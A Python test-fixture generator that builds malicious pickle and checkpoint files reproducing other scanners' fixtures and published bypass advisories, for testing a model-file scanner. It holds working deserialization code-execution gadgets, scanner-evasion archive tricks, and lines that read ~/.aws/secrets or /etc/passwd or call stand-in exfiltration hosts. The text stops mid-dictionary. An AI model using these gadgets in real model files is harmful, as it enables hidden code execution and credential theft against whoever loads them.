"""Rebuild, byte by byte, the hostile fixtures of other scanners' test suites and published bypasses.

Each entry names its source: a fixture of picklescan (mmaitre314/picklescan ``tests/data``,
``tests/data2``), modelscan (protectai/modelscan ``tests/test_modelscan.py``), fickling
(trailofbits/fickling ``test/test_bypasses.py`` and the module lists its coverage tests
iterate), a GitHub security advisory (GHSA id), or the gadget families and loader
differentials described in this project's issue 13. The bytes are written here from the
opcodes those fixtures use (read with ``pickletools``, never unpickled) and from the
advisories' descriptions; no code or file of those projects is copied. Payloads are
harmless commands (``id``, ``echo pwned``) and are never run.

Run: ``python tests/checkpoint/external/make_hostile.py OUT_DIR``. Names are
``<source>__<fixture>``; ``SOURCES.tsv`` in OUT_DIR lists each file with its source.
"""

from __future__ import annotations

import argparse
import bz2
import gzip
import lzma
import struct
import sys
import zlib
from pathlib import Path
from typing import Callable, Dict, List, Tuple

if __package__ in (None, ""):
    sys.path.insert(0, str(Path(__file__).resolve().parents[3]))
    from tests.checkpoint.external import builders as b  # noqa: E402
else:
    from . import builders as b

Entry = Tuple[str, str, bytes]  # (file name, source, bytes)

PICKLESCAN = "picklescan tests/"
MODELSCAN = "modelscan tests/test_modelscan.py"
FICKLING = "fickling test/test_bypasses.py"


# -- encoders -----------------------------------------------------------------------------------
def enc(value) -> bytes:
    """Protocol 2+ encoding of a constant argument."""
    if isinstance(value, bool):
        return b"\x88" if value else b"\x89"
    if value is None:
        return b"N"
    if isinstance(value, int):
        return b.binint(value) if -2**31 <= value < 2**31 else b"\x8a\x08" + value.to_bytes(8, "little", signed=True)
    if isinstance(value, str):
        return b.ustr(value)
    if isinstance(value, bytes):
        return b"C" + bytes([len(value)]) + value if len(value) < 256 else b"B" + struct.pack("<I", len(value)) + value
    if isinstance(value, (list, tuple)):
        body = b"(" + b"".join(enc(v) for v in value)
        return body + (b"l" if isinstance(value, list) else b"t")
    if isinstance(value, dict):
        return b"}(" + b"".join(enc(k) + enc(v) for k, v in value.items()) + b"u"
    raise TypeError(value)


def enc0(value) -> bytes:
    """Protocol 0 encoding (text opcodes) of a constant argument."""
    if value is None:
        return b"N"
    if isinstance(value, bool):
        return b"I01\n" if value else b"I00\n"
    if isinstance(value, int):
        return b"I" + str(value).encode() + b"\n"
    if isinstance(value, str):
        return b"V" + value.encode("raw_unicode_escape") + b"\n"
    if isinstance(value, (list, tuple)):
        return b"(" + b"".join(enc0(v) for v in value) + (b"l" if isinstance(value, list) else b"t")
    raise TypeError(value)


def call0(module: str, name: str, *args) -> bytes:
    return b.glob(module, name) + b"(" + b"".join(enc0(a) for a in args) + b"tR."


def call2(module: str, name: str, *args, proto: int = 2) -> bytes:
    return b"\x80" + bytes([proto]) + b.glob(module, name) + b"(" + b"".join(enc(a) for a in args) + b"tR."


def call4(module: str, name: str, *args) -> bytes:
    return b"\x80\x04" + b.stack_global(module, name) + b"(" + b"".join(enc(a) for a in args) + b"tR."


def ops4(body: bytes) -> bytes:
    return b"\x80\x04" + body + b"."


def zip_with_flag(name: str, data: bytes, flag: int) -> bytes:
    raw = name.encode()
    local = struct.pack("<4sHHHHHIIIHH", b"PK\x03\x04", 20, flag, 0, 0, 0x21, zlib.crc32(data), len(data), len(data),
                        len(raw), 0) + raw + data
    central = struct.pack("<4sHHHHHHIIIHHHHHII", b"PK\x01\x02", 20, 20, flag, 0, 0, 0x21, zlib.crc32(data), len(data),
                          len(data), len(raw), 0, 0, 0, 0, 0, 0) + raw
    return local + central + b.end_record(1, len(central), len(local))


def zip_local_name(central_name: str, local_name: str, data: bytes) -> bytes:
    out = bytearray(b.stored_zip([(central_name, data)]))
    at = out.index(central_name.encode())  # the local header's copy comes first
    out[at:at + len(local_name)] = local_name.encode()
    return bytes(out)


def zip_bad_crc(name: str, data: bytes) -> bytes:
    out = bytearray(b.stored_zip([(name, data)]))
    for at in (14, out.index(b"PK\x01\x02") + 16):
        out[at:at + 4] = struct.pack("<I", (zlib.crc32(data) ^ 0xFFFF) & 0xFFFFFFFF)
    return bytes(out)


def npy_object(pickle_bytes: bytes) -> bytes:
    header = b"{'descr': '|O', 'fortran_order': False, 'shape': (1,), }"
    header += b" " * (127 - 10 - len(header) % 128 + 1) if (10 + len(header) + 1) % 64 else b""
    header = header.ljust(((10 + len(header) + 1 + 63) // 64) * 64 - 10 - 1) + b"\n"
    return b"\x93NUMPY\x01\x00" + struct.pack("<H", len(header)) + header + pickle_bytes


def legacy_torch(first_pickle: bytes) -> bytes:
    """A legacy torch.save layout whose magic-number pickle is ``first_pickle``."""
    sys_info = b"\x80\x02}(X\x10\x00\x00\x00protocol_versionM\xe9\x03X\r\x00\x00\x00little_endian\x88u."
    return first_pickle + b"\x80\x02M\xe9\x03." + sys_info + b"\x80\x02}." + b"\x80\x02]."


# -- picklescan ---------------------------------------------------------------------------------
def picklescan() -> List[Entry]:
    out: List[Entry] = []

    def add(name: str, data: bytes, folder: str = "data") -> None:
        out.append((f"picklescan__{name}", f"{PICKLESCAN}{folder}/{name}", data))

    memo_trick = b"".join([b"Vos\n", b"p2\n", b"0", b"Vsystem\n", b"p3\n", b"0", b"Vtorch\n", b"p0\n", b"0",
                           b"VLongStorage\n", b"p1\n", b"0", b"g2\n", b"g3\n", b"\x93", b"(", b"Vcat flag.txt\n", b"t",
                           b"R", b"."])
    eval_src = "print('456')"
    add("bad_pytorch.pt", b"\x80\x02N0N0\x1a\x00\x00")
    add("broken_model.pkl", b"c__builtin__\nexec\nX" + struct.pack("<I", 543558206) + b"A" * 60)
    add("malicious-invalid-bytes.pkl", memo_trick + b"\n\n\t\t")
    add("malicious0.pkl", b"c__builtin__\nglobals\n(tRp100\n0c__builtin__\ncompile\n(S'fl=open(\"/etc/passwd\");"
                          b"picklesmashed=fl.read();'\nS''\nS'exec'\ntRp101\n0c__builtin__\neval\n(g101\ng100\ntRp102\n"
                          b"0c__builtin__\ngetattr\n(c__builtin__\ndict\nS'get'\ntRp103\n0c__builtin__\napply\n(g103\n"
                          b"(g100\nS'picklesmashed'\nltRp104\n0g104\n.")
    add("malicious1_v0.pkl", call0("__builtin__", "eval", eval_src))
    add("malicious1_v3.pkl", call2("builtins", "eval", eval_src, proto=3))
    add("malicious1_v4.pkl", call4("builtins", "eval", eval_src))
    add("malicious2_v0.pkl", call0("posix", "system", "ls -la"))
    add("malicious2_v3.pkl", call2("posix", "system", "ls -la", proto=3))
    add("malicious2_v4.pkl", call4("posix", "system", "ls -la"))
    add("malicious3.pkl", call0("httplib", "HTTPSConnection", "github.com"))
    add("malicious4.pickle", call4("requests.api", "get", "https://github.com"))
    add("malicious5.pickle", call4("aiohttp.client", "ClientSession"))
    add("malicious6.pkl", b"\x80\x04]\x94(\x8c\x01a\x8c\x01b\x8c\x01ce." + call4("requests.api", "get", "https://github.com"))
    add("malicious7.pkl", call4("socket", "create_connection", ("github.com", 80)))
    add("malicious8.pkl", call4("subprocess", "run", ["ls", "-l"]))
    add("malicious9.pkl", call4("sys", "exit", 0))
    add("malicious10.pkl", b"(S'raise RuntimeError(\"Injection running\")'\ni__builtin__\nexec\n.")
    add("malicious11.pkl", memo_trick)
    add("malicious12.pkl", ops4(b.stack_global("operator", "attrgetter") + enc("system") + b"\x85R"
                                + b.stack_global("builtins", "__import__") + enc("os") + b"\x85R\x85R"
                                + enc("echo pwned") + b"\x85R"))
    add("malicious13a.pkl", b.glob("pickle", "loads") + b"(" + b.glob("_codecs", "encode") + b"(VI12345\\u000a.\nVlatin1\n"
                            b"tRtR.")
    add("malicious13b.pkl", ops4(b.stack_global("_pickle", "loads") + enc(b"I12345\n.") + b"\x85R"))
    add("malicious14.pkl", call4("runpy", "_run_code", eval_src, {}))
    bdb_state = enc({"skip": None, "breaks": {}, "fncache": {}, "frame_returning": None})
    bdb_code = 'import os\nos.system("whoami")'
    add("malicious15a.pkl", b"\x80\x04" + b.glob("__builtin__", "getattr") + b.stack_global("bdb", "Bdb") + b")\x81"
                            + bdb_state + b"b" + enc("run") + b"\x86R" + enc(bdb_code) + b"\x85R.")
    add("malicious15b.pkl", ops4(b.stack_global("bdb", "Bdb.run") + b.stack_global("bdb", "Bdb") + b")\x81" + bdb_state
                                 + b"b" + enc(bdb_code) + b"\x86R"))
    add("malicious16.pkl", call2("pip", "main", ["install", "some_malicious_package", "--no-input", "-q",
                                                 "--exists-action", "i", "--isolated"]))
    add("malicious17.pkl", call4("torch._inductor.codecache", "compile_file", "", "", ["sh", "-c", '$(echo "pwned")']))
    add("malicious18.pkl", call4("pydoc", "pipepager", "", 'echo "pwned"'))
    add("malicious19.pkl", ops4(b.stack_global("functools", "partial") + b.stack_global("torch.serialization", "load")
                                + b"\x85R" + b"(" + b.stack_global("torch.serialization", "load")
                                + enc(("some_other_model.bin",)) + enc({"weights_only": False}) + b"Ntb" + b")R"))
    add("malicious20.pkl", call4("venv", "create", "$(echo pwned)"))
    add("malicious1.zip", b.stored_zip([("data.pkl", call4("builtins", "eval", eval_src))]))
    for flag in (0x1, 0x20, 0x40):
        add(f"malicious1_0x{flag:x}.zip", zip_with_flag("model/config.pkl", call4("builtins", "eval", eval_src), flag))
    add("malicious1_central_directory.zip", zip_local_name("data.pkl", "datap.kl", call4("builtins", "eval", eval_src)))
    add("malicious1_wrong_ext.zip", b.stored_zip([("data.txt", call4("builtins", "eval", eval_src))]))
    add("pytorch_magic_bypass.pt", legacy_torch(call2("__builtin__", "eval", "0x1950A86A20F9469CFC6C")))
    add("sys_module_override_sploit.pkl",
        b"\x80\x04Vtorch._utils\n\x94V_rebuild_tensor\n\x94\x93\x940Vtorch\nV_utils\n\x93\x940h\x03}h\x01Vbuiltins\nsb0"
        b"h\x00h\x01\x93h\x03}h\x01Veval\nsb0h\x00h\x01\x93\x93Vexec(\"\"\"print(\"pwned\")\"\"\")\n\x85R.")
    # tests/data2: one gadget each, most published as GHSA advisories against picklescan.
    whoami = "__import__('os').system('whoami')"
    for ghsa, module, name, args in [
        ("GHSA-3gf5-cxq9-w223", "idlelib.pyshell", "ModifiedInterpreter.runcode", (whoami,)),
        ("GHSA-3vg9-h568-4w9m", "idlelib.debugobj", "ObjectTreeItem.SetText", (whoami,)),
        ("GHSA-4675-36f9-wf6r", "ctypes", "CDLL", (None,)),
        ("GHSA-49gj-c84q-6qm9", "cProfile", "run", (whoami,)),
        ("GHSA-4r9r-ch6f-vxmx", "torch.utils.bottleneck.__main__", "run_cprofile", (whoami, {})),
        ("GHSA-4whj-rm5r-c2v8", "torch.utils.bottleneck.__main__", "run_autograd_prof", (whoami, {})),
        ("GHSA-5qwp-399c-mjwf", "trace", "Trace.run", (whoami,)),
        ("GHSA-6vqj-c2q5-j97w", "profile", "Profile.runctx", (whoami, {}, {})),
        ("GHSA-6w4w-5w54-rjvr", "idlelib.autocomplete", "AutoComplete.get_entity", (whoami,)),
        ("GHSA-7cq8-mj8x-j263", "idlelib.autocomplete", "AutoComplete.fetch_completions", (whoami, 1)),
        ("GHSA-7wx9-6375-f5wh", "profile", "run", (whoami,)),
        ("GHSA-86cj-95qr-2p4f", "torch._dynamo.guards", "GuardBuilder.get", (whoami,)),
        ("GHSA-8r4j-24qv-fmq9", "idlelib.calltip", "Calltip.fetch_tip", (whoami,)),
        ("GHSA-9w88-8rmg-7g2p", "cProfile", "runctx", (whoami, {}, {})),
        ("GHSA-9xph-j2h6-g47v", "idlelib.calltip", "get_entity", (whoami,)),
        ("GHSA-cj3c-v495-4xqh", "code", "InteractiveInterpreter.runcode", (whoami,)),
        ("GHSA-f4x7-rfwp-v3xw", "torch.fx.experimental.symbolic_shapes", "ShapeEnv.evaluate_guards_expression",
         (whoami, [])),
        ("GHSA-f54q-57x4-jg88", "lib2to3.pgen2.grammar", "Grammar.loads", (b"\x80\x04N.",)),
        ("GHSA-f745-w6jp-hpxx", "torch.utils.collect_env", "run", (whoami,)),
        ("GHSA-fqq6-7vqf-w3fg", "doctest", "debug_script", (whoami,)),
        ("GHSA-g344-hcph-8vgg", "trace", "Trace.runctx", (whoami, {}, {})),
        ("GHSA-g38g-8gr9-h9xp-aix-support", "_aix_support", "_read_cmd_output", ("id",)),
        ("GHSA-g38g-8gr9-h9xp-imaplib", "imaplib", "IMAP4_stream", ("id",)),
        ("GHSA-g38g-8gr9-h9xp-osx-support", "_osx_support", "_read_output", ("id",)),
        ("GHSA-g38g-8gr9-h9xp-pyrepl-pager", "_pyrepl.pager", "pipe_pager", ("text", "id")),
        ("GHSA-g38g-8gr9-h9xp-test", "test.support.script_helper", "assert_python_ok", ("-c pass",)),
        ("GHSA-g38g-8gr9-h9xp-uuid", "uuid", "_get_command_stdout", ("id",)),
        ("GHSA-h3qp-7fh3-f8h4", "torch.utils.data.datapipes.utils.decoder", "basichandlers", ("pickle", b"\x80\x04N.")),
        ("GHSA-j343-8v2j-ff7w", "idlelib.pyshell", "ModifiedInterpreter.runcommand", (whoami,)),
        ("GHSA-jgw4-cr84-mqxg", "asyncio.unix_events", "_UnixSubprocessTransport._start", ("whoami",)),
        ("GHSA-jhph-76pp-mggw", "torch.utils.collect_env", "run_and_read_all", (whoami,)),
        ("GHSA-m273-6v24-x4m4", "distutils.file_util", "write_file", ("pwned_config.env", ["malicious content"])),
        ("GHSA-m869-42cg-3xwr", "idlelib.run", "Executive.runcode", (whoami,)),
        ("GHSA-p9w7-82w4-7q8m", "lib2to3.pgen2.pgen", "ParserGenerator.make_label", ("\"\"+" + whoami,)),
        ("GHSA-q77w-mwjj-7mqx", "asyncio.unix_events", "_UnixSubprocessTransport._start", ("whoami", True)),
        ("GHSA-r8g5-cgf2-4m4m", "numpy.f2py.crackfortran", "getlincoef", (whoami, {})),
        ("GHSA-vqmv-47xg-9wpr", "pty", "spawn", (["/bin/sh", "-c", "id; exit"],)),
        ("GHSA-vr7h-p6mm-wpmh", "torch.jit.unsupported_tensor_ops", "execWrapper", (whoami,)),
        ("GHSA-vv6j-3g6g-2pvj", "torch.utils._config_module", "ConfigModule.load_config", (b"\x80\x04N.",)),
        ("GHSA-vvpj-8cmc-gx39", "pkgutil", "resolve_name", ("os:system",)),
        ("GHSA-x696-vm39-cp64", "profile", "Profile.run", (whoami,)),
        ("GHSA-xp4f-hrf8-rxw7", "ensurepip", "_run_pip", ([whoami],)),
        ("io_FileIO", "_io", "FileIO", ("/etc/hosts", "r")),
        ("logging_FileHandler", "logging", "FileHandler", ("evil.log",)),
        ("urllib_request_urlopen", "urllib.request", "urlopen", ("https://example.invalid",)),
        ("malicious21", "timeit", "timeit", ("", 'import os; os.system("curl https://webhook.invalid/1234")')),
        ("malicious22", "numpy.testing._private.utils", "runstring", ("import os; os.system('curl https://example.invalid')", {})),
        ("malicious23", "os", "system", ("ls",)),
    ]:
        add(f"{ghsa}.pkl", call4(module, name, *args), "data2")
    add("GHSA-46h3-79wf-xr6c.pkl", b"\x80\x04" + b.glob("_operator", "attrgetter") + enc("system") + b"\x85R"
        + b.glob("builtins", "__import__") + enc("os") + b"\x85R\x85R" + enc('echo "pwned by _operator.attrgetter"')
        + b"\x85R.", "data2")
    add("GHSA-84r2-jw7c-4r5q.pkl", ops4(b.stack_global("operator", "methodcaller") + enc("system") + enc("echo pwned")
                                        + b"\x86R" + b.stack_global("pydoc", "locate") + enc("os") + b"\x85R\x85R"), "data2")
    add("GHSA-955r-x9j8-7rhh.pkl", b"\x80\x04" + b.glob("_operator", "methodcaller") + enc("system")
        + enc('echo "pwned by _operator.methodcaller"') + b"\x86R" + b.glob("builtins", "__import__") + enc("os")
        + b"\x85R\x85R.", "data2")
    add("cloudpickle_codeinjection.pkl", ops4(
        b.stack_global("cloudpickle.cloudpickle", "_make_function")
        + b.stack_global("cloudpickle.cloudpickle", "_builtin_type") + enc("CodeType") + b"\x85R"
        + enc((0, 0, 0, 0, 2, 67, b"t\x00d\x01\x83\x01S\x00", (None, "payload"), ("eval",), (), "payload.py",
               "payload", 1, b"")) + b"R" + enc({"__builtins__": None}) + b"NNN(t" + b"R"), "data2")
    add("dns_exfiltration.npy", npy_object(
        b"\x80\x04]" + b.stack_global("ssl", "get_server_certificate") + enc((".dns-logger.invalid", 443))
        + b"\x85Ra."), "data2")
    add("keyerror-exploit.pkl", b"\x80\x04" + b.glob("os", "system") + enc('echo "pwned by memo keyerror"')
        + b"\x85R0\x8c\x02os\x94h\x03\x93.", "data2")
    add("type-confusion-exploit.pkl", b"\x80\x04" + b.glob("os", "system") + enc('echo "type-confusion-exploit"')
        + b"\x85R0J*\x00\x00\x00\x94\x8c\x02os\x94h\x00h\x01\x93KB.", "data2")
    add("types_CodeType.pkl", call4("types", "CodeType", 0, 0, 0, 0, 1, 64, b"d\x00S\x00", ("CodeType serialization "
                                                                                          "succeeded",), ("print",),
                                    (), "<dynamic_code>", "<module>", "<module>", 1, b"", b"", (), ()), "data2")
    add("malicious1_crc.zip", zip_bad_crc("data.pkl", call4("builtins", "eval", eval_src)), "data2")
    return out


# -- modelscan ----------------------------------------------------------------------------------
def modelscan() -> List[Entry]:
    out: List[Entry] = []

    def add(name: str, data: bytes) -> None:
        out.append((f"modelscan__{name}", f"{MODELSCAN} ({name})", data))

    inner = b"\x80\x05" + b.glob("os", "system") + b"Vecho pwned!!!\n\x85R."
    add("malicious12.pkl", b"\x80\x05" + b.glob("pickle", "loads") + b"B" + struct.pack("<I", len(inner)) + inner
        + b"\x85R0N.")
    add("malicious13.pkl", b"\x80\x05" + b.glob("builtins", "eval.__call__")
        + b'V__import__("os").system("echo pwned!!!")\n\x85R.')
    add("unsafe_zip_pytorch.pt", b.stored_zip(b.torch_members(
        b"\x80\x02" + b.glob("collections", "OrderedDict") + b")R" + b.glob("posix", "system")
        + enc("cat ~/.aws/secrets") + b"\x85R0.", prefix="unsafe_zip_pytorch")))
    for version, proto in ((0, None), (3, 3), (4, 4)):
        data = call0("__builtin__", "eval", "print('456')") if proto is None else (
            call2("builtins", "eval", "print('456')", proto=3) if proto == 3 else call4("builtins", "eval", "print('456')"))
        add(f"malicious1_v{version}.dill", data)
    return out


# -- fickling -----------------------------------------------------------------------------------
#: fickling ``UnsafeImportsML.UNSAFE_MODULES`` and ``UNSAFE_IMPORTS`` (fickling/analysis.py), which its
#: coverage tests call one by one.
FICKLING_UNSAFE_MODULES = ["numpy.distutils", "numpy.f2py", "torch._dynamo", "torch._inductor", "torch.compile",
                           "torch.hub", "torch.jit"]
FICKLING_UNSAFE_IMPORTS = [("torch", "compile"), ("torch", "load"), ("torch.storage", "_load_from_bytes"),
                           ("torch.utils._config_module", "ConfigModule"),
                           ("torch.distributed.elastic.rendezvous.api", "basichandlers"),
                           ("numpy.testing._private.utils", "runstring"), ("_io", "FileIO"), ("_io", "open"),
                           ("io", "FileIO"), ("io", "open")]


def fickling() -> List[Entry]:
    out: List[Entry] = []

    def add(name: str, data: bytes, ref: str = "") -> None:
        out.append((f"fickling__{name}", f"{FICKLING} {name}{(' ' + ref) if ref else ''}", data))

    sg = b.stack_global
    add("pty_spawn_ghsa.pkl", b"\x80\x04\x95\x1a\x00\x00\x00\x00\x00\x00\x00" + sg("pty", "spawn") + enc("id")
        + b"\x85R" + enc("gottem") + b"b.", "GHSA-r7v6-mfhq-g3m2")
    add("pty_spawn_pr108.pkl", b"\x80\x04" + b.glob("pty", "spawn") + enc("id") + b"\x85R.")
    add("marshal_types.pkl", ops4(sg("types", "FunctionType") + sg("marshal", "loads") + enc(b"\xe3") + b"\x85R"
                                  + enc({}) + b"\x86R" + b")R"), "GHSA-565g-hwwr-4pp3")
    add("runpy_run_path.pkl", call4("runpy", "run_path", "/tmp/malicious.py"), "GHSA-wfq2-52f7-7qvj")
    add("cprofile_run.pkl", call4("cProfile", "run", "print('CPROFILE_RCE_CONFIRMED')"), "GHSA-p523-jq9w-64x9")
    add("ctypes_cdll.pkl", ops4(sg("builtins", "getattr") + sg("ctypes", "CDLL") + enc("libc.dylib") + b"\x85R"
                                + enc("system") + b"\x86R" + enc(b"id") + b"\x85R"), "GHSA-5hvc-6wx8-mvv4")
    add("pydoc_locate.pkl", ops4(sg("pydoc", "locate") + enc("os.system") + b"\x85R" + enc("id") + b"\x85R"),
        "GHSA-5hvc-6wx8-mvv4")
    add("importlib_import_module.pkl", ops4(sg("builtins", "getattr") + sg("importlib", "import_module") + enc("os")
                                            + b"\x85R" + enc("system") + b"\x86R" + enc("id") + b"\x85R"),
        "GHSA-q5qq-mvfm-j35x")
    add("code_interactive.pkl", ops4(sg("builtins", "getattr") + sg("code", "InteractiveInterpreter") + b")R"
                                     + enc("runsource") + b"\x86R" + enc('import os; os.system("id")') + b"\x85R"),
        "GHSA-q5qq-mvfm-j35x")
    add("multiprocessing_spawnv.pkl", call4("multiprocessing.util", "spawnv_passfds", "/bin/sh", ["sh", "-c", "id"], ()),
        "GHSA-q5qq-mvfm-j35x")
    add("builtins_import_getattr.pkl", b"\x80\x04" + b.glob("builtins", "getattr") + b.glob("builtins", "__import__")
        + enc("os") + b"\x85R" + enc("system") + b"\x86R" + enc("id") + b"\x85R.", "GHSA-h4rm-mm56-xf63")
    add("getattr_only.pkl", b"\x80\x04" + b.glob("builtins", "getattr") + b"0N.")
    add("eval_only.pkl", b"\x80\x04" + b.glob("builtins", "eval") + b"0N.")
    add("operator_methodcaller.pkl", b"\x80\x04" + b.glob("_operator", "methodcaller") + b"Vsystem\n"
        + b'Vecho "pwned by _operator.methodcaller"\n\x86R' + b.glob("builtins", "__import__") + b"Vos\n\x85R\x85R.",
        "GHSA-955r-x9j8-7rhh")
    add("distutils_write_file.pkl", call4("distutils.file_util", "write_file", "/tmp/malicious.txt",
                                          ["malicious content"]), "GHSA-m273-6v24-x4m4")
    add("io_fileio.pkl", call4("_io", "FileIO", "/etc/passwd"))
    add("numpy_f2py_getlincoef.pkl", call4("numpy.f2py.crackfortran", "getlincoef", "__import__('os').system('id')", {}),
        "GHSA-r8g5-cgf2-4m4m")
    for module, cls, port in [("smtplib", "SMTP", 25), ("imaplib", "IMAP4", 143), ("ftplib", "FTP", 21),
                              ("poplib", "POP3", 110), ("telnetlib", "Telnet", 23), ("nntplib", "NNTP", 119)]:
        add(f"network_ssrf_{module}.pkl", b"\x80\x04" + b.glob(module, cls) + enc("127.0.0.1") + b"M"
            + struct.pack("<H", port) + b"\x86R}b.")
    add("asyncio_subprocess.pkl", call4("asyncio.unix_events", "_UnixSubprocessTransport._start", "whoami", True),
        "GHSA-f7qq-56ww-84cr")
    add("obj_pop_call.pkl", ops4(b"(" + sg("smtplib", "SMTP") + enc("127.0.0.1") + b"o0N"), "GHSA-mxhj-88fx-4pcv")
    add("uuid_get_command_stdout.pkl", call4("uuid", "_get_command_stdout", "echo", "PROOF_OF_CONCEPT"),
        "GHSA-5hwf-rc88-82xm")
    add("aix_support.pkl", call4("_aix_support", "_read_cmd_output", "echo PROOF_OF_CONCEPT"), "GHSA-5hwf-rc88-82xm")
    add("osx_support.pkl", call4("_osx_support", "_find_build_tool", "x; echo INJECTED #"), "GHSA-5hwf-rc88-82xm")
    add("dotted_attr_pathlib.pkl", ops4(sg("pathlib", "os.system") + enc("id") + b"\x85R"), "GHSA-5j3x-jp52-966f")
    add("ast_parse_import.pkl", ops4(sg("ast", "parse")), "GHSA-cffv-grgg-g429")
    for module in ("_interpreters", "_xxsubinterpreters"):
        add(f"private_{module}.pkl", ops4(sg(module, "create") + b")R"), "GHSA-6ggj-6f2q-f7mx")
    hidden = b"c" + b"os\nsystem\n" + b"Vecho pwned\n" + b"\x85R"
    add("frame_boundary_divergence.pkl", b"\x80\x05N" + b"V" + b"a" * (8192 * 16 - 17) + b"\n0(" + b"\x95"
        + struct.pack("<Q", 2) + b"B" + b"\x07\x01\x00\x00" + b"\x00\x00" + (hidden + b"(").ljust(256 + 5, b"N")
        + b"1.", "cpython#154848")

    def framed(body: bytes, declared: int) -> bytes:
        return b"\x80\x05\x95" + struct.pack("<Q", declared) + body + b"."

    for label, data in [
        ("binbytes", framed(b"B" + struct.pack("<I", 20) + b"A" * 20, 5)),
        ("short_binunicode", framed(b"\x8c\x14" + b"A" * 20, 3)),
        ("global_module", framed(b"cmacos\nsystem\n", 4)),
        ("global_attr", framed(b"cos\nsystem\n", 7)),
        ("unicode", framed(b"Vhello world\n", 5)),
        ("binint", framed(b"J" + struct.pack("<i", 7), 2)),
        ("nested_frame", b"\x80\x05\x95" + struct.pack("<Q", 30) + b"N\x95" + struct.pack("<Q", 2) + b"N."),
    ]:
        add(f"frame_straddle_{label}.pkl", data, "cpython#154848")
    for module in FICKLING_UNSAFE_MODULES:
        add(f"unsafe_module_{module}.pkl", b"\x80\x04" + b.glob(module, "dangerous") + b")R.")
    for module, func in FICKLING_UNSAFE_IMPORTS:
        add(f"unsafe_import_{module}.{func}.pkl", b"\x80\x04" + b.glob(module, func) + b")R.")
    return out


# -- gadget families and loader differentials of issue 13 -----------------------------------------
def catalogue(tmp_marker: str = "/tmp/governance-hooks-marker") -> List[Entry]:
    out: List[Entry] = []

    def add(name: str, data: bytes, what: str) -> None:
        out.append((f"issue13__{name}", f"issue 13: {what}", data))

    sg = b.stack_global
    add("tempfile_os_system.pkl", call4("tempfile", "_os.system", "id"), "dotted traversal tempfile + _os.system")
    add("random_os_getattr.pkl", ops4(sg("builtins", "getattr") + sg("random", "_os") + enc("system") + b"\x86R"
                                      + enc("id") + b"\x85R"), "random._os reached by getattr")
    add("random_os_dotted.pkl", call4("random", "_os.system", "id"), "dotted traversal random._os.system")
    add("argparse_os_system.pkl", call4("argparse", "_os.system", "id"), "dotted traversal argparse._os.system")
    add("frozen_importlib_os.pkl", call4("_frozen_importlib_external", "_os.system", "id"),
        "dotted traversal _frozen_importlib_external._os.system")
    add("enum_bltns_eval.pkl", call4("enum", "bltns.eval", "__import__('os').system('id')"),
        "dotted traversal enum + bltns.eval")
    add("ext1_code.pkl", b"\x80\x02\x82\x01" + enc("id") + b"\x85R.", "EXT1 registry import")
    add("ext2_code.pkl", b"\x80\x02\x83\x00\x01" + enc("id") + b"\x85R.", "EXT2 registry import")
    add("ext4_code.pkl", b"\x80\x02\x84\x00\x00\x01\x00" + enc("id") + b"\x85R.", "EXT4 registry import")
    add("joblib_ndarraywrapper_sibling.pkl", b"\x80\x02" + b.glob("joblib.numpy_pickle_compat", "NDArrayWrapper")
        + b")\x81" + enc({"filename": "../../secret.pkl", "subclass": None, "allow_mmap": False}) + b"b.",
        "joblib NDArrayWrapper makes joblib.load read a sibling file of any name")
    add("mailcap_findmatch.pkl", call4("mailcap", "findmatch", {"x/y": [{"view": "id"}]}, "x/y"), "mailcap.findmatch")
    add("ssl_get_server_certificate.pkl", call4("ssl", "get_server_certificate", ("example.invalid", 443)),
        "ssl.get_server_certificate network fetch")
    add("xxsubinterpreters_run_string.pkl", call4("_xxsubinterpreters", "run_string", 0, "import os"),
        "_xxsubinterpreters.run_string")
    add("picklescan_scanner_global.pkl", call4("picklescan.scanner", "scan_pickle_bytes", b"x", "f"),
        "scanner-package global")
    add("fickling_loads.pkl", call4("fickling", "loads", b"\x80\x04N."), "scanner-package global")
    add("numpy_f2py_compile.pkl", call4("numpy.f2py", "compile", "x", "m"), "numpy.f2py helper")
    add("torch_jit_exec_wrapper.pkl", call4("torch.jit.unsupported_tensor_ops", "execWrapper", "import os", {}, {}),
        "torch jit execWrapper")
    add("torch_inductor_compile_file.pkl", call4("torch._inductor.codecache", "compile_file", "a", "b", ["id"]),
        "torch _inductor compile_file")
    add("idlelib_run_code.pkl", call4("idlelib.run", "Executive.runcode", "import os"), "idlelib helper")
    add("lib2to3_driver.pkl", call4("lib2to3.pgen2.driver", "load_grammar", "g.pickle"), "lib2to3 helper")
    add("doctest_script_from_examples.pkl", call4("doctest", "debug_src", "import os"), "doctest helper")
    add("test_support_run_python.pkl", call4("test.support.script_helper", "run_python_until_end", "-c", "pass"),
        "test.support helper")
    add("builtins_type_three_args.pkl", call4("builtins", "type", "X", (), {}), "type() creating a class")
    add("reconstructor_evil_base.pkl", ops4(sg("copyreg", "_reconstructor") + sg("collections", "OrderedDict")
                                            + sg("subprocess", "Popen") + enc(["id"]) + b"\x87R"),
        "copyreg._reconstructor with a non-builtin base")
    add("newobj_setstate_string.pkl", ops4(sg("logging", "Logger") + b")\x81" + enc("id") + b"b"),
        "NEWOBJ then BUILD handing a non-dict state to __setstate__")
    # Loader differentials (section 2 of the issue), each proved on the real loader in test_loader_reading.py.
    payload = b.marker(tmp_marker)
    add("torch_zip_upper_case_data_pkl.pt", b.stored_zip([("archive/data.pkl", b"\x80\x02}."),
                                                          ("archive/DATA.PKL", payload),
                                                          ("archive/version", b"3\n")]),
        "torch's reader finds archive/DATA.PKL case-insensitively")
    add("torch_zip_two_directories.pt", b.two_directories(b.torch_members(b"\x80\x02}."), b.torch_members(payload)),
        "two central directories: torch reads the recorded one, zipfile the other")
    add("torch_legacy_tar.pth.tar", b.torch_tar(payload), "legacy torch tar checkpoint")
    hidden = b.joblib_array_with_lying_elsize(b.marker_ops(tmp_marker))
    add("joblib_elsize_lie.joblib", hidden, "joblib array sized from a lying dtype elsize")
    add("joblib_elsize_lie.joblib.gz", gzip.compress(hidden, mtime=0), "joblib array sized from a lying dtype elsize")
    add("py2_string_non_ascii.pkl", b"(S'caf\xe9'\np0\n" + b"c__builtin__\nopen\n(V" + tmp_marker.encode()
        + b"\nVw\ntRtp1\n.", "protocol 0 STRING with non-ASCII bytes")
    return out


#: How each classic payload is also packed the way checkpoints are shipped.
CONTAINERS: Dict[str, Callable[[bytes], bytes]] = {
    "torch_zip.pt": lambda p: b.stored_zip(b.torch_members(p)),
    "joblib_zlib.joblib": lambda p: zlib.compress(p),
    "joblib_gzip.joblib": lambda p: gzip.compress(p, mtime=0),
    "joblib_bz2.joblib": lambda p: bz2.compress(p),
